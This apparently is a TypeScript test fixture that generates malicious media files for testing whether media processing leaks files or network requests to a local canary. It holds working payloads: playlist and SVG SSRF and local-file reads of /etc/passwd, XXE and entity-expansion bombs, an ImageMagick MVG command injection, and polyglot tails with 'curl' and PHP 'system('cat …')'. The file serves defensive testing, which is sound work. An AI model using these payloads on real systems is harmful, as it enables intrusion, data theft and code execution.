/** What a file may try to have read: addresses that count requests, and files outside of the work folder. */
export interface Bait {
  /** `http://127.0.0.1:40123/00042`: unlike for each file, so that a request says whose it is. */
  address: string;
  /** Absolute paths of files that must not be read: a text, a picture, a recording. */
  text: string;
  picture: string;
  recording: string;
}

/** Texts that name other files or addresses, in the languages that programs for media have for it. */
export function hostileTexts({ address, text, picture, recording }: Bait): Record<string, string> {
  const here = (path: string) => `file://${path}`;
  return {
    ffconcat: `ffconcat version 1.0\nfile ${recording}\nfile /etc/passwd\n`,
    'ffconcat with options': `ffconcat version 1.0\nfile '${address}/a.ts'\noption protocol_whitelist file,http,tcp\nfile 'concat:${text}|${recording}'\n`,
    hls: `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:1,\n${here(recording)}\n#EXTINF:1,\n${address}/a.ts\n#EXTINF:1,\nconcat:${address}/b|file:///etc/passwd\n#EXT-X-ENDLIST\n`,
    m3u: `#EXTM3U\n#EXTINF:1,a\n${recording}\nhttp://localhost:${address.split(/[:/]/)[4]}/c.mp3\n`,
    dash: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT1S"><BaseURL>${address}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${here(recording)}</BaseURL><SegmentList><Initialization sourceURL="${address}/i.mp4"/><SegmentURL media="${address}/1.mp4"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    sdp: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${address.replace('http', 'rtsp')}\nm=audio 5004 RTP/AVP 0\n`,
    smooth: `<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="${address}/q"/></SmoothStreamingMedia>`,
    imf: `<?xml version="1.0"?><CompositionPlaylist><AssetMap>${here(recording)}</AssetMap></CompositionPlaylist>`,
    ffmetadata: `;FFMETADATA1\ntitle=${here(text)}\n[CHAPTER]\nTIMEBASE=1/0\nSTART=-1\nEND=99999999999\ntitle=a\n`,
    'svg with pictures': svg(
      `<image width="9" height="9" xlink:href="${here(picture)}"/><image width="9" height="9" href="${picture}"/><image width="9" height="9" href="../outside/canary.png"/><image width="9" height="9" href="${address}/a.png"/><feImage xlink:href="${here(picture)}"/>`,
    ),
    'svg with styles': svg(
      `<style>@import url("${address}/a.css"); @import url("${here(text)}"); @font-face{font-family:a;src:url(${address}/a.woff)} rect{fill:url(${address}/g.svg#g)}</style><rect width="9" height="9"/><text font-family="a">a</text>`,
    ),
    'svg with parts of others': svg(
      `<use xlink:href="${address}/b.svg#a"/><use href="${here(text)}#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${here(text)}"/></foreignObject><script href="${address}/a.js">fetch('${address}')</script>`,
    ),
    'svg with an entity': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "${here(text)}"><!ENTITY b SYSTEM "${address}/e"><!ENTITY % c SYSTEM "${address}/c.dtd"> %c;]>${svg('<text y="20">&a;&b;</text>')}`,
    'svg with an inclusion': `<?xml-stylesheet href="${address}/a.xsl" type="text/xsl"?>${svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${here(text)}" parse="text"/>`)}`,
    'svg of entities of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${'bcdefghi'.replace(/./g, (name) => `<!ENTITY ${name} "${`&${String.fromCharCode(name.charCodeAt(0) - 1)};`.repeat(10)}">`)}]>${svg('<text>&i;</text>')}`,
    'msl of ImageMagick': `<image><read filename="${text}"/><write filename="${text}.made"/></image>`,
    mvg: `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '${address}/a.png|touch ${text}.made'\npop graphic-context\n`,
    ghostscript: `%!PS\n(${text}) (r) file 100 string readstring pop show\nshowpage\n`,
    html: `<!doctype html><script>fetch("${address}")</script><img src="${address}/a"><iframe src="${here(text)}">`,
    vtt: `WEBVTT\n\nSTYLE\n::cue { background: url(${address}/v) }\n\n00:00.000 --> 00:01.000\n<img src=x onerror="fetch('${address}')"><v <script>>&lt;script&gt;</v>\n`,
    chapters: JSON.stringify({
      version: '1.2.0',
      chapters: [
        { startTime: 0, title: '<script>a</script>', url: 'javascript:fetch(1)', img: `${address}/a.png` },
        { startTime: 1e308, title: 'x', url: here(text) },
        { startTime: -1, title: 'y', url: address },
        { startTime: 2, title: '\u0000\u202e\ud800', url: `${address}\n` },
      ],
    }),
    'chapters of a prototype':
      '{"__proto__":{"chapters":1},"constructor":[],"chapters":[{"__proto__":{"a":1},"startTime":"1","title":{"toString":1}}]}',
  };
}

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">${inside}</svg>`;

/** A QuickTime film that is nothing but the address of another, and one whose pictures lie elsewhere. */
export function redirectedFilm(address: string): Buffer {
  const target = Buffer.from(`${address}/film.mov\0`);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(target.length);
  const rdrf = box('rdrf', Buffer.from('\0\0\0\0url '), length, target);
  const dref = box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), box('url ', Buffer.alloc(4), target));
  const track = box('trak', box('mdia', box('minf', box('dinf', dref))));
  return Buffer.concat([
    box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')),
    box('moov', box('rmra', box('rmda', rdrf)), track),
  ]);
}

function box(type: string, ...parts: Buffer[]): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + parts.reduce((sum, { length }) => sum + length, 0));
  head.write(type, 4);
  return Buffer.concat([head, ...parts]);
}

/** What is put behind a file to make it two at once. */
export function tails({ address, text }: Bait): Record<string, Buffer> {
  return {
    zip: zipOf('run.sh', `curl ${address}`),
    html: Buffer.from(
      `\n<html><body onload="fetch('${address}')"><script src="${address}/x.js"></script></body></html>`,
    ),
    pdf: Buffer.from(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${address})>>>>endobj\n2 0 obj<</F(${text})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    ),
    php: Buffer.from(`\n<?php system('cat ${text}'); ?>`),
  };
}

/** A ZIP of one stored file, without a checksum. */
function zipOf(name: string, content: string): Buffer {
  const [title, data] = [Buffer.from(name), Buffer.from(content)];
  const local = Buffer.alloc(30);
  local.write('PK\x03\x04', 0, 'latin1');
  const central = Buffer.alloc(46);
  central.write('PK\x01\x02', 0, 'latin1');
  for (const [head, at] of [
    [local, 18],
    [central, 20],
  ] as const) {
    head.writeUInt32LE(data.length, at);
    head.writeUInt32LE(data.length, at + 4);
    head.writeUInt16LE(title.length, at + 8);
  }
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + title.length, 12);
  end.writeUInt32LE(30 + title.length + data.length, 16);
  return Buffer.concat([local, title, data, central, title, end]);
}
